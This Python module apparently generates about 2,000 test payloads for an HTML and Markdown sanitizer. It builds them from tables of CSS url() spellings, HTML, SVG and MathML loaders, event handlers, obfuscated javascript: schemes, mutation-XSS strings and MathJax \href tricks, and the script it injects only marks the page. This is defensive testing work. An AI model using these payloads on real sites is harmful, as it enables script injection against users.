r"""Texts that try to load something or to run a script in the browser of whoever opens a page, some 2,000 of them.

`variants` makes them: resources named in a style (escaped, commented, by every function, for every property that takes
one), the elements and attributes of HTML, SVG and MathML that load or run, `javascript:` in every spelling, texts that
change when they are parsed twice, and the commands of MathJax. In the tables, § is an address under `outside` that tells
which text asked for it, and {run} a script that sets the attribute `data-ran` of the page's root.
"""

# ruff: noqa: E501  (attacks are code in strings)
from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "document.documentElement.dataset.ran=/{name}/.source"
PROPERTIES = (
    "background", "background-image", "list-style", "list-style-image", "border-image", "border-image-source", "content",
    "cursor", "mask", "mask-image", "-webkit-mask-image", "-webkit-mask-box-image", "filter", "clip-path",
    "shape-outside", "offset-path", "behavior", "-moz-binding", "color", "width", "font-family", "--x",
)  # fmt: skip
SPELLINGS = (
    "url(§)", "url('§')", 'url("§")', r"u\72l(§)", r"\75rl(§)", r"\000075rl(§)", r"\75 \72 \6c (§)", "URL(§)", r"uR\4c(§)",
    "/**/url(§)", "url(/**/§)", "u/**/rl(§)", 'image-set("§" 1x)', "image-set(url(§) 1x)", r"im\61ge-set('§' 1x)",
    '-webkit-image-set(url("§") 1x)', "cross-fade(url(§), url(§), 50%)", "image('§')", 'src("§")', "red url(§)",
    "url(§) no-repeat", r"url(\§)", "url(\n§\n)", "var(--x, url(§))", "env(x, url(§))", "attr(title url)",
    "expression({run})", "paint(§)", "element(#x)", "url(data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg/>)",
)  # fmt: skip
SHEETS = (
    "@import '§';", "@import url(§);", r"@\69mport '§';", "@font-face{font-family:x;src:url(§)} *{font-family:x}",
    "*{background:url(§)}", r"*{background:\75 rl(§)}", "*::before{content:url(§)}", "</style><img src=§>",
    "@namespace url(§);", "html{cursor:url(§),auto}", "<!-- *{background:url(§)} -->",
)  # fmt: skip
LOADS = (
    "<img src=§>", "<img srcset='§ 1x'>", "<IMG SRC=§>", "<img/src=§>", "<img src='&#104;ttp:§'>", "<image src=§>",
    "<picture><source srcset=§><img></picture>", "<video src=§ autoplay>", "<video poster=§>", "<audio src=§ autoplay>",
    "<video><source src=§></video>", "<video><track default src=§></video>", "<iframe src=§></iframe>", "<frame src=§>",
    "<iframe srcdoc='<img src=§>'></iframe>", "<frameset><frame src=§></frameset>", "<object data=§></object>",
    "<embed src=§>", "<applet archive=§></applet>", "<link rel=stylesheet href=§>", "<link rel=preload as=image href=§>",
    "<link rel=prefetch href=§>", "<link rel=preconnect href=§>", "<link rel=dns-prefetch href=§>",
    "<link rel=icon href=§>", "<link rel=manifest href=§>", "<link rel=modulepreload href=§>",
    "<link rel=import href=§>", "<base href=§/><img src=x.png>", "<meta http-equiv=refresh content='0;url=§'>",
    "<meta http-equiv='Link' content='<§>;rel=preload;as=image'>", "<body background=§>", "<table background=§>",
    "<td background=§>", "<input type=image src=§>", "<form action=§><button autofocus>x</button></form>",
    "<button formaction=§>x</button>", "<isindex action=§>", "<bgsound src=§>", "<a href=x ping=§>x</a>",
    "<svg><image href=§ /></svg>", "<svg><image xlink:href=§ /></svg>", "<svg><use href=§#x /></svg>",
    "<svg><filter id=f><feImage href=§ /></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "<svg><rect fill='url(§#x)' width=9 height=9 /></svg>", "<svg><style>@import '§';</style></svg>",
    "<svg><foreignObject><img src=§></foreignObject></svg>", "<svg><a xlink:href=§><rect width=9 height=9 /></a></svg>",
    "<svg><animate attributeName=href values=§ /></svg>", "<svg><rect style='fill:url(§)' /></svg>",
    "<math><mtext><img src=§></mtext></math>", "<math><annotation-xml encoding=text/html><img src=§></annotation-xml></math>",
    "<math><mglyph src=§ /></math>", "<math xlink:href=§><mi>x</mi></math>", "<math href=§><mi>x</mi></math>",
    "<template><img src=§></template>", "<template shadowrootmode=open><img src=§></template>",
    "<noscript><img src=§></noscript>", "<noembed><img src=§></noembed>", "<xmp><img src=§></xmp>",
    "<plaintext><img src=§>", "<details open><img src=§></details>", "<portal src=§></portal>",
    "<input type=text value=x style='background:url(§)'>", "<script src=§></script>", "<script type=module src=§></script>",
    "<script>fetch('§')</script>", "<style>@import '§';</style>", "<div style=\"background:url('§')\">x</div>",
)  # fmt: skip
RUNS = (
    "<script>{run}</script>", "<script type=module>{run}</script>", "<scr<script>ipt>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>", "<script/x>{run}</script>", "<script>\n{run}", "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<svg><script>{run}</script></svg>", "<svg><script href='data:text/javascript,{run}'></script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s /></svg>", "<svg onload={run}>", "<svg/onload={run}>",
    "<math><mtext><script>{run}</script></mtext></math>", "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>", "<iframe src='javascript:{run}'></iframe>", "<form action='javascript:{run}'>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">", "<base href='javascript:{run}//'><a href=x>y</a>",
    "<img src=x onerror={run}>", "<img src=x:y onerror={run}//>", "<video><source onerror={run}></video>",
    "<body onload={run}>", "<input autofocus onfocus={run}>", "<details open ontoggle={run}>x</details>",
    "<marquee onstart={run}>x</marquee>", "<style onload={run}></style>", "<link rel=stylesheet href=x onerror={run}>",
    "<img src='data:image/svg+xml,<svg onload={run} xmlns=\"http://www.w3.org/2000/svg\"/>'>",
    # what a second reading makes of the first one's words
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<!--><img src=x onerror={run}>-->",
    "<a title='</a><img src=x onerror={run}>'>x</a>", "<p title=\"</p><script>{run}</script>\">x</p>", "<![CDATA[<img src=x onerror={run}>]]>",
    "<svg><![CDATA[</svg><img src=x onerror={run}>]]></svg>", "<svg><desc><![CDATA[</desc><script>{run}</script>]]></desc></svg>",
    "<select><template><img src=x onerror={run}></template></select>", "<textarea></textarea><img src=x onerror={run}>",
    "<title><img src=x onerror={run}></title>", "<iframe><img src=x onerror={run}></iframe>", "<svg><title><img src=x onerror={run}>",
    "<x/><img src=x onerror={run}>", "<img src=\"x` `<script>{run}</script>\"` `>", "<<img src=x onerror={run}>",
    "<img \x00src=x onerror={run}>", "<img src=x one\x00rror={run}>", "<a href=\"files/javascript:{run}\">x</a>",
)  # fmt: skip
EVENTS = (
    "onload onerror onfocus onblur onclick onmouseover onpointerenter onanimationstart onanimationend ontransitionend "
    "ontoggle onbeforetoggle onscroll onscrollend oncopy onpaste oninput onsubmit onresize onhashchange onmessage "
    "onpageshow onunload onwheel oncontextmenu onsecuritypolicyviolation onslotchange oncontentvisibilityautostatechange"
).split()
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "java\rscript:",
    "\x01javascript:", "java&#115;cript:", "&#x6a;avascript:", "&#0000106avascript:", "javascript&colon;",
    "javascript&#58;", "&Tab;javascript:", "java&NewLine;script:", "javascript:javascript:", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=x>",
    "view-source:javascript:", "blob:javascript:", "filesystem:", "file:///etc/passwd#", "//127.0.0.1/", "\\\\127.0.0.1\\",
    "http:javascript:", "\u202ejavascript:", "\ufeffjavascript:",
)  # fmt: skip
CARRIERS = ("<a href=\"{url}\">x</a>", "<area href=\"{url}\">", "<svg><a href=\"{url}\"><text>x</text></a></svg>",
            "<img src=\"{url}\">", "<form action=\"{url}\"></form>", "<iframe src=\"{url}\"></iframe>",
            "[x]({url})", "![x]({url})", "<{url}x>", "[x][r]\n\n[r]: {url}")  # fmt: skip
FORMULAS = (
    r"\href{javascript:§}{x}", r"\href {javascript:§} x", r"\<foo>href{javascript:§}{x}", r"\<!-- -->href{javascript:§}{x}",
    r"\h<b></b>ref{javascript:§}{x}", r"\<b>href</b>{javascript:§}{x}", r"\hre<wbr>f{javascript:§}{x}",
    r"\&#104;ref{javascript:§}{x}", r"\class{modal}{x}", r"\style{background:url(§)}{x}", r"\cssId{top}{x}",
    r"\unicode{<img src=§>}", r"\require{html}\href{javascript:§}{x}", r"\def\a{\href}\a{javascript:§}{x}",
    r"\newcommand\a{\href}\a{javascript:§}{x}", r"\let\a\href\a{javascript:§}{x}", r"\text{<img src=x onerror=§>}",
    r"\mbox{</math><script>§</script>}", r"\includegraphics{§}", r"\bbox[border:1px solid url(§)]{x}",
    r"\mmlToken{mi}[href='javascript:§']{x}", r"\htmlData{x=§}{y}", r"\color{url(§)}x", r"\url{javascript:§}",
    r"\begin{matrix}\href{javascript:§}{x}\end{matrix}", r"\operatorname{</mi><script>§</script>}", r"\ref{§}", r"\label{§}",
    r"\data{javascript:§}{x}", r"\texttt{<svg onload=§>}", r"</math><img src=x onerror=§>", r"\tag{<script>§</script>}x",
)  # fmt: skip
AROUND = ("${}$", "$${}$$", r"\\({}\\)", r"\begin{{align}}{}\end{{align}}", "<div>${}$</div>", "<p>\n$${}$$\n</p>", "{}",
          "<div>{}</div>", "# ${}$", "| ${}$ |\n|---|\n| x |", "`${}$`")  # fmt: skip
MARKDOWN = (
    "![x](§)", "![x][r]\n\n[r]: §", "<§>", "[![x](§)](§)", "![x](§ \"t\" onerror={run})", "![x](\"onerror=\"{run})",
    "![x](x \"\\\" onerror={run} y=\\\"\")", "```mermaid\ngraph TD; A[<img src=x onerror={run}>]\n```",
    "```<img src=x onerror={run}>\nx\n```", "    <script>{run}</script>", "- <script>{run}</script>", "> <img src=§>",
    "[x](<javascript:{run}>)", "[a](x){{onclick={run}}}", "&lt;script&gt;{run}&lt;/script&gt;", "<!-- --!><img src=§>",
    "[x](files/javascript:{run})", "![x](files/§)", "# <img src=§>", "*<script>{run}</script>*", "~~<img src=§>~~",
)  # fmt: skip


def variants(outside: str) -> dict[str, str]:
    """The texts by name, HTML and Markdown alike. outside: where they load from, such as http://127.0.0.1:8000."""
    made = {}
    for number, (kind, text) in enumerate(_texts()):
        name = f"{kind}-{number}"
        made[name] = text.replace("{run}", RUN.replace("{name}", name)).replace("§", f"{outside}/{name}")
    return made


def _texts() -> Iterator[tuple[str, str]]:
    for name, value in product(PROPERTIES, SPELLINGS):
        yield "style", f'<p style="{name}: {value.replace(chr(34), "&quot;")}">x</p>'
    for value in SPELLINGS:
        quoted = value.replace('"', "&quot;")
        yield "style", f'<p style="color: red; b\\61 ckground: {quoted}; width: 5px">x</p>'
        yield "style", f'<p style="background/**/: {quoted} !important">x</p>'
        yield "style", f'<p style="}} p {{ background: {quoted} }}">x</p>'
        yield "style", f'<p style="&#98;ackground: {quoted.replace("(", "&#40;")}">x</p>'
        yield "style", f'<table style="background: {quoted}"><tr><td style="background: {quoted}">x</td></tr></table>'
    for sheet in SHEETS:
        yield "sheet", f"<style>{sheet}</style>x"
        yield "sheet", f'<p style="{sheet}">x</p>'
        yield "sheet", f"<link rel=stylesheet href='data:text/css,{sheet}'>"
    for text in LOADS:
        yield "load", text
        yield "load", f"<p>a</p>\n{text}\n\nb"
    for text in (*RUNS, *MARKDOWN):
        yield "run", text
    for event, tag in product(EVENTS, ("img src=x", "p", "svg", "details open", "input autofocus")):
        yield "event", f'<{tag} {event}="{{run}}">x'
    for scheme, carrier in product(SCHEMES, CARRIERS):
        yield "scheme", carrier.replace("{url}", scheme + "{run}")
    for formula, around in product(FORMULAS, AROUND):
        yield "formula", around.format(formula)
